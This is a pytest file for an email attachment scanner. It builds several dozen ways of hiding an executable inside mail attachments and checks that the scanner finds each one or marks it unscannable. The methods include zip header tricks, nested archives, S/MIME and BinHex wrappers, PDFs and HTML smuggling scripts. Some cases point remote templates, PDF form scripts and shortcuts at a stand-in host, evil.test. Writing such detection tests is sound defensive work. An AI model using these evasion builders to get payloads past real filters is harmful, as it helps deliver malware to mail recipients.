"""What an author of malware would try: the same program hidden in one way after another. It is found, or the message is told as unscannable.

Each way was one that escaped once, or one that is used; all are made here.
"""

import base64
import binascii
import gzip
import io
import lzma
import random
import struct
import tarfile
import zlib

import pikepdf
import pytest

from sekisho.testing.discs import disc, simple
from sekisho.testing.hidings import ENCODED, HEAD, MARK, PROGRAM, cabinet, mail, opened, raw_zip, word, zipped

SVG = "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'>"


def der(tag, content):
    size = len(content)
    width = (size.bit_length() + 7) // 8
    return bytes([tag]) + (bytes([size]) if size < 128 else bytes([0x80 | width]) + size.to_bytes(width, "big")) + content


def endless(tag, content):
    return bytes([tag, 0x80]) + content + b"\0\0"


DATA, SIGNED = bytes.fromhex("06092a864886f70d010701"), bytes.fromhex("06092a864886f70d010702")


def signed(content, wrap=der):
    pieces = b"".join(der(4, content[at : at + 100]) for at in range(0, len(content), 100))
    inner = wrap(0x30, DATA + wrap(0xA0, der(4, content) if wrap is der else wrap(0x24, pieces)))
    return wrap(0x30, SIGNED + wrap(0xA0, wrap(0x30, der(2, b"\1") + der(0x31, b"") + inner + der(0x31, b""))))


def compressed(content):
    algorithm = bytes.fromhex("060b2a864886f70d0109100308")
    inner = der(0x30, der(2, b"\0") + der(0x30, algorithm) + der(0x30, DATA + der(0xA0, der(4, zlib.compress(content)))))
    return der(0x30, bytes.fromhex("060b2a864886f70d0109100109") + der(0xA0, inner))


def rich_text(content, how="hex"):
    def text(words):
        return struct.pack("<I", len(words) + 1) + words + b"\0"

    package = b"\2\0a.exe\0C:\\a.exe\0\0\0\3\0" + struct.pack("<I", 9) + b"C:\\a.exe\0" + struct.pack("<I", len(content)) + content
    data = struct.pack("<II", 0x501, 2) + text(b"Package") + bytes(8) + struct.pack("<I", len(package)) + package
    written = data.hex().encode() if how == "hex" else b"\\bin%d " % len(data) + data
    return b"{\\rt{\\object\\objemb{\\*\\objdata " + written + b"}}}"


def relation(kind="attachedTemplate", target="hTTps://evil.test/a.dotm", mode="External", prefix=""):
    there = f"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"
    return f'<?xml version="1.0"?><{prefix}Relationships><{prefix}Relationship Id="r" Type="{there}" Target="{target}" TargetMode="{mode}"/></x>'


def flat(charset):
    part = f'<pkg:part pkg:name="/word/o.bin"><pkg:binaryData>{ENCODED}</pkg:binaryData></pkg:part>'
    return f'<?xml version="1.0"?><pkg:package xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage">{part}</pkg:package>'.encode(charset)


def binhex():
    head = b"\5a.exe\0APPL????\0\0" + struct.pack(">II", len(PROGRAM), 0)
    data = b"".join(piece + binascii.crc_hqx(piece + b"\0\0", 0).to_bytes(2, "big") for piece in (head, PROGRAM)).replace(b"\x90", b"\x90\0")
    letters = b"!\"#$%&'()*+,-012345689@ABCDEFGHIJKLMNPQRSTUVXYZ[`abcdefhijklmpqr"
    usual = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
    digits = base64.b64encode(data).rstrip(b"=").translate(bytes.maketrans(usual, letters))
    return (
        b"(This file must be converted with BinHex 4.0)\r\n\r\n:" + b"\r\n".join(digits[at : at + 64] for at in range(0, len(digits), 64)) + b":\r\n"
    )


def apple_single():
    return (
        struct.pack(">II16xH", 0x00051600, 0x00020000, 2) + struct.pack(">IIIIII", 1, 50, len(PROGRAM), 3, 50 + len(PROGRAM), 5) + PROGRAM + b"a.exe"
    )


def mac_binary():
    head = bytearray(128)
    head[1:7], head[65:73], head[83:87], head[122:124] = b"\5a.exe", b"APPL????", len(PROGRAM).to_bytes(4, "big"), b"\x81\x81"
    return bytes(head) + PROGRAM


def tar(fields, content):
    target = io.BytesIO()
    with tarfile.open(fileobj=target, mode="w", format=tarfile.PAX_FORMAT) as archive:
        one = tarfile.TarInfo("./GNUSparseFile.1/x")
        one.size, one.pax_headers = len(content), fields
        archive.addfile(one, io.BytesIO(content))
    return target.getvalue()


def tar_with_holes():
    pieces = f"2\n0\n{len(PROGRAM)}\n1000000\n0\n".encode().ljust(512, b"\0")
    return tar({"GNU.sparse.major": "1", "GNU.sparse.minor": "0", "GNU.sparse.name": "a.exe", "GNU.sparse.realsize": "1000000"}, pieces + PROGRAM)


def active_mime():
    head = b"ActiveMime\0\0\1\xf0\4\0\0\0\xff\xff\xff\xff\0\0\7\xf0" + struct.pack("<I", len(PROGRAM))
    part = base64.encodebytes(head.ljust(0x32, b"\0") + zlib.compress(PROGRAM)).replace(b"\n", b"\r\n")
    text = b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n<html>x</html>\r\n--b\r\n"
    return text + b"Content-Type: application/x-mso\r\nContent-Transfer-Encoding: base64\r\n\r\n" + part + b"--b--\r\n"


def pdf(*, locked=False, forms=None):
    document = pikepdf.new()
    document.add_blank_page()
    if forms is None:
        document.attachments["a.exe"] = pikepdf.AttachedFileSpec(document, PROGRAM, filename="a.exe")
    else:
        document.Root.AcroForm = pikepdf.Dictionary(XFA=pikepdf.Array([*map(document.make_stream, forms)]))
    target = io.BytesIO()
    locks = {"encryption": pikepdf.Encryption(owner="x", user="", R=6)} if locked else {}
    document.save(target, object_stream_mode=pikepdf.ObjectStreamMode.generate, **locks)
    return target.getvalue()


def onenote():
    head = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + bytes(32) + bytes.fromhex("3fdd9a101b91f549a5d01791edc8aed8") + bytes(100)
    return head + bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac") + struct.pack("<Q", len(PROGRAM)) + bytes(12) + PROGRAM


def page(script):
    return f"<html><script>{script}</script></html>".encode()


def many(layers):
    made = PROGRAM
    for _ in range(layers):
        made = gzip.compress(zipped({"a.gz": made}))
    return made


STUB = HEAD + bytes(400)
BYTES_OF_IT = ",".join(f"0x{octet:02x}" for octet in PROGRAM)
PIECES = ",".join(f'"{ENCODED[at : at + 40]}"' for at in range(0, len(ENCODED), 40))
INNER = SVG + "<foreignObject><iframe src='data:text/html;base64," + base64.b64encode(page(f"x='{ENCODED}'")).decode() + "'/></foreignObject></svg>"
UNICODE_PATH = struct.pack("<HHBI", 0x7075, 5 + 5, 1, zlib.crc32(b"a.txt")) + b"a.exe"
WRONG_64 = struct.pack("<HHQQ", 1, 16, len(PROGRAM), len(PROGRAM))

FILES = {
    "zip: the two headers name it differently": ("a.zip", zipped({"a.txt": PROGRAM}).replace(b"a.txt", b"a.exe", 1)),
    "zip: a name in Unicode beside the name": ("a.zip", raw_zip(PROGRAM, 0, UNICODE_PATH)),
    "zip: XZ": ("a.zipx", raw_zip(lzma.compress(PROGRAM), 95)),
    "zip: a method that nobody reads": ("a.zipx", raw_zip(PROGRAM, 97)),
    "zip: sizes of 64 bits": ("a.zip", raw_zip(PROGRAM, 0, WRONG_64, version=45, sizes=(0xFFFFFFFF, 0xFFFFFFFF))),
    "zip: behind text": ("a.txt", b"words\r\n" * 20 + zipped({"a.exe": PROGRAM})),
    "zip: far in front of the end": ("a.zip", zipped({"a.exe": PROGRAM}) + bytes(200_000)),
    "zip: behind a program": ("a.exe", STUB + zipped({"a.js": b"// " + MARK})),
    "cabinet: behind a program": ("a.exe", STUB + cabinet()),
    "rar: behind junk": ("a.rar", b"junk" * 30 + b"Rar!\x1a\x07\0" + random.Random(2).randbytes(100)),
    "7z: behind text": ("a.7z", b"words " * 30 + b"7z\xbc\xaf\x27\x1c\0\4" + random.Random(3).randbytes(100)),
    "gzip and zip, six times": ("a.gz", many(6)),
    "tar: with holes": ("a.tar", tar_with_holes()),
    "disc: UDF alone": ("a.iso", disc(simple({"a.exe": PROGRAM[:1_500]}))),
    "disc: UDF in a zip": ("a.zip", zipped({"a.iso": disc(simple({"a.exe": PROGRAM[:1_500]}))})),
    "rich text in Word, with a zip in it": ("a.docx", word({"word/chunk.rtf": rich_text(zipped({"a.exe": PROGRAM}))})),
    "rich text: raw octets": ("a.doc", rich_text(PROGRAM, "bin")),
    "Word as one text": ("a.xml", flat("utf-8")),
    "Word as one wide text": ("a.doc", flat("utf-16")),
    "a web archive in Word": ("a.docx", word({"word/chunk.mht": mail(PROGRAM, "a.exe")})),
    "ActiveMime in a web archive": ("a.doc", active_mime()),
    "OneNote under another name": ("a.docx", onenote()),
    "signed in one piece": ("smime.p7m", signed(mail(PROGRAM, "a.exe"))),
    "signed in pieces of unknown length": ("smime.p7m", signed(mail(PROGRAM, "a.exe"), endless)),
    "signed twice": ("smime.p7m", signed(signed(mail(PROGRAM, "a.exe")))),
    "signed, a file": ("a.exe.p7m", signed(PROGRAM)),
    "signed, in armour": ("a.p7m", b"-----BEGIN PKCS7-----\n" + base64.encodebytes(signed(mail(PROGRAM, "a.exe"))) + b"-----END PKCS7-----\n"),
    "compressed mail": ("smime.p7z", compressed(mail(PROGRAM, "a.exe"))),
    "BinHex": ("a.hqx", binhex()),
    "AppleSingle": ("a", apple_single()),
    "MacBinary": ("a.bin", mac_binary()),
    "PDF: a file in it, locked with no password": ("a.pdf", pdf(locked=True)),
    "PDF: a file in it": ("a.pdf", pdf()),
    "a mail in a zip": ("a.zip", zipped({"m": mail(PROGRAM, "a.exe")})),
    "page: pieces of an array": ("a.html", page(f"var p=[{PIECES}];go(p.join(''))")),
    "page: backwards": ("a.html", page(f"var p='{ENCODED[::-1]}';go(p)")),
    "page: hexadecimal digits": ("a.html", page(f"var p='{PROGRAM.hex()}';go(p)")),
    "page: hexadecimal numbers": ("a.html", page(f"var p=[{BYTES_OF_IT}];go(p)")),
    "page: an address written with entities": ("a.html", f"<a href='&#100;ata:x/y;base64,{ENCODED.replace('A', '&#65;')}'>x</a>".encode()),
    "picture: an address in an address": (
        "a.svg",
        (SVG + "<image xlink:href='data:image/svg+xml;base64," + base64.b64encode(INNER.encode()).decode() + "'/></svg>").encode(),
    ),
}


@pytest.mark.parametrize("case", FILES)
def test_the_program_is_found_or_the_message_is_unscannable(case):
    name, octets = FILES[case]
    content = opened(mail(octets, name))
    found = any(MARK in leaf.octets and leaf.octets[:2] in {b"MZ", b"//"} for leaf in content.leaves)
    assert found or any(defect.code.startswith("unscannable.") for defect in content.message.defects), content.message.defects


RENAMED = "window['at'+'ob'](s);l.href=URL['createObject'+'URL'](new window['Bl'+'ob']([s]));l['down'+'load']='a.exe';l['cli'+'ck']()"
UNTOLD = f"<html><meta charset=iso-2022-jp><scr\x1b(Bipt>a=at\x1b(Bob('{ENCODED}');new Bl\x1b(Bob([a]);x.cli\x1b(Bck()</scr\x1b(Bipt></html>".encode()
XFA = b"<xdp><script>xfa.host.gotoURL('https://evil.test/')</script></xdp>"
MACROS = '<Types><Override PartName="/x.bin" ContentType="application/vnd.ms-office.vba&#80;roject"/></Types>'
SIGNS = {
    "page: calls in pieces": ("a.html", page(f"s=x;{RENAMED}"), "page_smuggling"),
    "page: escapes within words": ("a.html", UNTOLD, "page_smuggling"),
    "page: a script in an address": (
        "a.html",
        b"<svg><script xlink:href='data:text/javascript;base64," + base64.b64encode(b"location='https://evil.test/'") + b"'/>",
        "evil.test",
    ),
    "picture, compressed": ("a.svgz", gzip.compress((SVG + "<script>1</script></svg>").encode()), "picture_script"),
    "template: wide text": ("a.docx", word({"word/_rels/s.xml.rels": relation().encode("utf-16")}), "external_template"),
    "template: entities": ("a.docx", word({"word/_rels/s.xml.rels": relation("attached&#84;emplate", mode="&#69;xternal")}), "external_template"),
    "template: a prefix": ("a.docx", word({"word/_rels/s.xml.rels": relation(prefix="p:")}), "external_template"),
    "macros: entities": ("a.docx", word({"[Content_Types].xml": MACROS}), "macro"),
    "PDF: a form's script": ("a.pdf", pdf(forms=[XFA]), "evil.test"),
    "PDF: a form in pieces": ("a.pdf", pdf(forms=[b"<x/>"] * 60 + [XFA[:10], XFA[10:]]), "evil.test"),
    "PDF: a form of wide text": ("a.pdf", pdf(forms=[XFA.decode().encode("utf-16")]), "evil.test"),
    "shortcut: wide text": ("a.url", "[InternetShortcut]\r\nURL=file://evil.test/a.exe\r\n".encode("utf-16"), "evil.test"),
}


@pytest.mark.parametrize("case", SIGNS)
def test_it_is_told(case):
    name, octets, expected = SIGNS[case]
    message = opened(mail(octets, name)).message
    told = [sign.code for part in message.parts for sign in part.signs] + [flag for part in message.parts for flag in part.flags]
    assert expected in told or any(expected in link.url for link in message.links), (told, message.links)
